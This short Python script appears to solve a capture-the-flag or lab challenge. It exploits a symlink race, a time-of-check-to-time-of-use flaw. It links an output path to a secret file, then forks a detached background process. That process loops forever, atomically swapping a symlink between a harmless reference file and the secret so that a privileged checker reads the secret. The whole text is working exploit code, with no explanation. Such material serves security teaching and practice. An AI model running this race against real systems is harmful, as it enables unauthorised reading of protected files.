import os
import time

from acts import FOLDER, OUTPUT, REFERENCE, SECRET

os.symlink(SECRET, OUTPUT)
if os.fork() == 0:
    os.setsid()
    while True:
        for target in (REFERENCE, SECRET):
            os.symlink(target, FOLDER + "/link")
            os.replace(FOLDER + "/link", OUTPUT)
time.sleep(0.1)
